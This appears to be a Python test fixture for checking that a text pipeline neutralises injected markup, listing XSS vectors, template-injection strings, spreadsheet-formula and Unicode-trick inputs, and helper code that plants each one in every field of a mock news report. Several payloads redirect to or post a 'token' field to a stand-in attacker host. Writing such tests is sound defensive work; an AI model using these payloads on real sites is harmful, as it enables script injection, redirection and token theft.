"""Words that try to be something else: markup, script, addresses, templates, formulas, directions."""

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% for x in ().__class__.__bases__ %}x{% endfor %}",
    "${alert(1)}#{alert(1)}",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example><input name=token>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "‮gnorw‬ ​\ufeff⁦x⁩",
    "=HYPERLINK(\"//evil.example\",\"x\")",
    "<!--", "]]>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)  # fmt: skip


def report(payload: str) -> dict[str, str]:
    """A report with a payload in every field and in every kind of words that are read from it."""
    text = (
        f"The Harbour Office said that the port was shut {payload} on Monday. {payload}, the minister of "
        f"{payload}, said that the port would be open by May. “{payload} is shut,” said Omar {payload} Dell. "
        f"According to {payload} Radio, the Harbour Office denied that the port {payload} was shut."
    )
    return {
        "id": payload, "title": f"Port {payload}", "publisher": f"Wire {payload}", "author": payload,
        "published": "2031-04-09", "url": f"https://a.example/{payload}", "text": text,
    }  # fmt: skip
